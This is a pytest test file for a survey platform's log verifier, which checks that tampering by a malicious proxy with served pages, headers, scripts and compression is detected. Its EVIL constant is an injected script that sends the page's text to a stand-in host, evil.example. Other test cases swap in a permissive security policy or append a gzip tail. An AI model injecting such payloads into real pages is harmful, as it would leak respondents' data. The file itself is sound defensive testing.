"""A host, or whoever stands before it, that sends phones other pages than are logged is named by `sotto log verify`."""

import gzip
import importlib.util
from collections.abc import Iterator
from dataclasses import dataclass, replace

import brotli
import pytest
from click.testing import CliRunner
from forged.served import compared
from forged.witnesses import witness_program
from hosts.applications import respond_app
from hosts.evil_proxy import Change, EvilProxy, Reply, evil
from hosts.threaded_server import answering
from kinds import one_in
from paths import ROOT
from studies.plain_study import STUDY, fresh
from werkzeug.serving import make_server

from crypto.canonical import canonical
from crypto.signing import SigningKey
from survey.commands.main import main
from survey.document import today
from survey.public_log import log_events
from survey.public_log.log_entry import LogEntry
from survey.public_log.open_waves import page_report
from survey.public_log.published_source import PublishedSource
from survey.public_log.verification import PublishedLog
from survey.publication.frontend_files import load_assets
from survey.respond_app.served_pages import StudyPages
from survey.respond_app.settings import RespondSettings
from survey.settings import Settings
from survey.wave.manifest import Manifest

SPEC = importlib.util.spec_from_file_location("independent_verifier", ROOT / "verifier" / "verify.py")
VERIFY = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(VERIFY)
EVIL = b"<script>fetch('//evil.example/'+document.body.innerText)</script>"
CSP = "Content-Security-Policy"
MAIN = f"/static/{load_assets().main}"


def drill(manifest: Manifest) -> bytes:
    """Return the record of a drill, signed by a key of its own."""
    key = SigningKey.generate()
    said = {
        "format": "sotto-drill-1", "study": STUDY, "wave": 1, "manifest": manifest.digest, "threshold": 2,
        "custodians": 3, "subsets": 3, "commitments": [letter * 64 for letter in "abc"],
    }  # fmt: skip
    signature = key.sign(canonical(said), "drill").to_json()
    return canonical(said | {"signer": key.verifying_key.to_json(), "signature": signature})


def logged(settings: Settings, manifest: Manifest) -> None:
    """Log the wave as staff commands do."""
    known = RespondSettings(settings.answers_url, settings.public, settings.work_key, settings.hosts)
    log_events.wave_opened(settings, manifest, drill(manifest))
    files = log_events.frontend_served(settings, STUDY, 1)
    log_events.pages_served(settings, STUDY, 1, StudyPages(known).document(STUDY, 1, files).to_bytes())


@pytest.fixture(scope="module")
def proxy(tmp_path_factory) -> Iterator[tuple[EvilProxy, str]]:
    """A host of a study with a plain form, on a server of its own, behind a proxy."""
    host = fresh(tmp_path_factory.mktemp("evil"))
    logged(host.settings, host.manifest)
    app = respond_app(host.settings)
    server = make_server("127.0.0.1", 0, app, threaded=True)
    with answering(server, app.extensions["sotto"].engine) as origin, evil(origin) as behind:
        yield behind


def verified(url: str, *options: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["log", "verify", url, *options])
    return result.exit_code, result.output


def at(path: str, change: Change) -> Change:
    """Return the change of one path."""
    return lambda reply: change(reply) if reply.path == path else reply


def body(content: bytes) -> Change:
    """Return the change of a body, sent as it is."""
    return lambda reply: replace(reply.without("Content-Encoding"), body=content)


def scripted(reply: Reply) -> Reply:
    """Put a script into a page, compressed again where it was."""
    packed = ("Content-Encoding", "br") in reply.lines
    page = (brotli.decompress(reply.body) if packed else reply.body).replace(b"</head>", EVIL + b"</head>")
    return replace(reply, body=brotli.compress(page) if packed else page)


def with_a_tail(reply: Reply) -> Reply:
    """Put a second gzip file with a script after a page's own, where gzip was asked for or no encoding."""
    packed = ("Content-Encoding", "br") in reply.lines
    page = brotli.decompress(reply.body) if packed else reply.body
    page = gzip.decompress(page) if ("Content-Encoding", "gzip") in reply.lines else page
    body = gzip.compress(page) + gzip.compress(EVIL)
    return replace(reply.without("Content-Encoding").having(("Content-Encoding", "gzip")), body=body)


def spaced(reply: Reply) -> Reply:
    """Put a no-break space after a policy, with which a browser does not know it."""
    return reply.without("Referrer-Policy").having(("Referrer-Policy", "no-referrer\u00a0"))


def header(value: str) -> Change:
    return lambda reply: reply.without(CSP).having((CSP, value))


@dataclass(frozen=True)
class Evil:
    """What a host does, and what the check then says."""

    name: str
    change: Change
    said: str


S, F = f"/s/{STUDY}", f"/f/{STUDY}"
OTHER = "is another page than the log says"
PAGES = (
    S, f"/w/{STUDY}", f"/c/{STUDY}", f"/c/{STUDY}?lang=zh-Hant", f"/k/{STUDY}", f"/k/{STUDY}/sw.js",
    f"/k/{STUDY}/app.webmanifest", F, f"{F}?lang=zh-Hans",
    f"{F}/questions", f"{F}/questions?lang=zh-Hans", "/blank",
)  # fmt: skip


def hides_its_pages(reply: Reply) -> Reply:
    return replace(reply, status=404) if reply.path in PAGES else reply


EVILS = [
    *(Evil(f"another {path}", at(path, body(b"<p>Trust us.")), f"{path}, asked for as a phone does, {OTHER}")
      for path in PAGES),
    Evil("an inline script", at(S, scripted), f"{S}, asked for as a phone does, {OTHER}"),
    Evil("a script for phones alone", at(S, lambda one: scripted(one) if one.by_phone else one),
         f"{S}, asked for as a phone does, {OTHER}"),
    Evil("a script for others alone", at(S, lambda one: one if one.by_phone else scripted(one)),
         f"{S}, asked for without a phone's headers, {OTHER}"),
    Evil("a header dropped", at(S, lambda one: one.without(CSP)), f"lacks the header {CSP.lower()}"),
    Evil("a header changed", at(S, header("default-src *")), f"has 'default-src *' in its header {CSP.lower()}"),
    Evil("a header added", at(S, lambda one: one.having(("Link", "</x.js>; rel=preload; as=script"))),
         "has the header 'link', which the log does not name"),
    Evil("a header twice", at(S, lambda one: one.having(("Permissions-Policy", "camera=*"))),
         "in its header permissions-policy"),
    Evil("a header on the worker alone", at(f"/k/{STUDY}/sw.js", lambda one: one.having(("X-A", "\x1b[2J"))),
         "has the header 'x-a'"),
    Evil("a cookie", at("/blank", lambda one: one.having(("Set-Cookie", "a=b"))), "has the header 'set-cookie'"),
    Evil("an ETag, which knows its reader again", at(S, lambda one: one.having(("ETag", '"7"'))),
         "has the header 'etag'"),
    Evil("a redirect", at(S, lambda one: replace(one, status=302).having(("Location", "/blank"))),
         f"{S}, asked for as a phone does, answers 302"),
    Evil("a page that is not whole", at(S, lambda one: replace(one, status=206)),
         f"{S}, asked for as a phone does, answers 206"),
    Evil("a page of somebody between", at(S, lambda one: replace(one, status=203)), "answers 203 where the log has"),
    Evil("a second gzip file after the page", at(S, with_a_tail), "sends a body that is not of its encoding"),
    Evil("a policy that is none", at(S, spaced), "in its header referrer-policy"),
    Evil("a page taken away", at(f"/w/{STUDY}", lambda one: replace(one, status=404)), "answers 404 where the log has"),
    Evil("no page at all, as a mirror", hides_its_pages, "answers 404 where the log has"),
    Evil("another script", at(MAIN, body(b"alert(1)")), f"{MAIN}, asked for as a phone does, is another file"),
    Evil("a cookie with the script", at(MAIN, lambda one: one.having(("Set-Cookie", "a=b"))),
         f"{MAIN}, asked for as a phone does, has the header 'set-cookie'"),
    Evil("a script without its policy", at(MAIN, lambda one: one.without(CSP)),
         f"{MAIN}, asked for as a phone does, lacks the header {CSP.lower()}"),
    Evil("no script", at(MAIN, lambda one: replace(one, status=404)), f"{MAIN}, asked for as a phone does, answers"),
    Evil("a page that names a script of its own", at(S, body(b'<script src="/static/evil.js"></script>')),
         "/static/evil.js, asked for as a phone does, answers 404"),
    Evil("a body of no encoding that was asked for", at(S, lambda one: one.having(("Content-Encoding", "zstd"))),
         "in an encoding that was not asked for"),
]  # fmt: skip


def test_a_host_that_changes_nothing_is_named_for_nothing(proxy):
    """Control: through the same proxy every page, header and file is as logged, and the check says what it compared."""
    code, said = verified(proxy[1])
    assert (0, True) == (code, f"compared as phones get them: {STUDY}, wave 1" in said), said


@pytest.mark.parametrize("one", EVILS, ids=lambda one: one.name)
def test_a_changed_page_header_or_script_is_named(proxy, one, monkeypatch):
    """Each change is named with its path, and the check ends as for what does not hold."""
    monkeypatch.setattr(proxy[0], "change", one.change)
    code, said = verified(proxy[1])
    assert (5, True) == (code, one.said in said), said
    assert said.isprintable() or {"\n"} == {sign for sign in said if not sign.isprintable()}


def test_an_address_passes_as_a_mirror_only_where_the_caller_says_so(proxy, monkeypatch, tmp_path):
    """With --mirror no page is asked for, all three say that none was compared, and the log holds."""
    monkeypatch.setattr(proxy[0], "change", hides_its_pages)
    code, said = verified(proxy[1], "--mirror")
    assert (0, True) == (code, "No page was compared: you said that this address is a mirror" in said), said
    assert ([], False) == compared(VERIFY, proxy[1], mirror=True)
    assert "no page was compared: a copy of the files has none" in witnessed(proxy[1], tmp_path, mirror=True)


WITNESS = witness_program()


def witnessed(url: str, folder, *, mirror: bool = False) -> list[str]:
    """Let a new witness sign the log of this address; return what the person reads."""
    WITNESS.new_key(folder / "lin.key", "lin.example")
    key = WITNESS.Key.read(folder / "lin.key")
    return WITNESS.cosign(WITNESS.Source(url, mirror), key, folder / "memory", None, first=True)[1]


def test_a_witness_signs_the_log_of_a_host_that_changes_nothing(proxy, tmp_path):
    """Control: every page that the log of the real application names is compared, and the head is signed."""
    assert any(said.endswith(" pages are as the log says") for said in witnessed(proxy[1], tmp_path))


@pytest.mark.parametrize("one", one_in(4, [one for one in EVILS if MAIN not in one.said]), ids=lambda one: one.name)
def test_a_witness_signs_nothing_where_a_page_is_other_than_logged(proxy, one, monkeypatch, tmp_path):
    """Each change of a page is refused, and nothing is remembered. Scripts are under the page's hash (`integrity`)."""
    monkeypatch.setattr(proxy[0], "change", one.change)
    with pytest.raises(WITNESS.Refused):
        witnessed(proxy[1], tmp_path)
    assert not (tmp_path / "memory").exists()


def test_the_independent_verifier_names_nothing_where_nothing_is_changed(proxy):
    """Control: of the same host verifier/verify.py compares every page, and finds each as logged."""
    assert ([], True) == compared(VERIFY, proxy[1])


@pytest.mark.parametrize("one", one_in(4, EVILS), ids=lambda one: one.name)
def test_the_independent_verifier_names_the_same_changes(proxy, one, monkeypatch):
    """Each change is named by verifier/verify.py too, which shares no code."""
    monkeypatch.setattr(proxy[0], "change", one.change)
    faults, was_compared = compared(VERIFY, proxy[1])
    assert was_compared
    assert faults


def test_an_interview_behind_a_box_is_named(tmp_path):
    """A box in the log ends the comparison of pages: a host that goes on asking is named, a closed one is not."""
    host = fresh(tmp_path)
    logged(host.settings, host.manifest)
    about = {"format": "sotto-log-entry-1", "kind": "box", "study": STUDY, "wave": 1, "day": today().isoformat()}
    box = about | dict.fromkeys(("hash", "root", "receipts"), "0" * 64) | {"count": 0, "refused": 0}
    log_events.host_log(host.settings).append(LogEntry.model_validate(box))
    app = respond_app(host.settings)
    server = make_server("127.0.0.1", 0, app, threaded=True)
    with answering(server, app.extensions["sotto"].engine) as url:
        log = PublishedLog.read(PublishedSource(url))
        said, behind = page_report(log).faults, f"wave 1 has a box, but {url} still serves its interview"
        assert {f"{STUDY}, {path}, asked for as a phone does: {behind}" for path in (S, F)} <= {*said}
        named = {f"{path} is a page that the log does not name: an interview in no open wave" for path in (S, F)}
        assert (named, False) == ({*compared(VERIFY, url)[0]}, compared(VERIFY, url)[1])
        assert () == page_report(log, mirror=True).faults
        host.state("closed")
        assert () == page_report(log).faults
        assert ([], False) == compared(VERIFY, url)
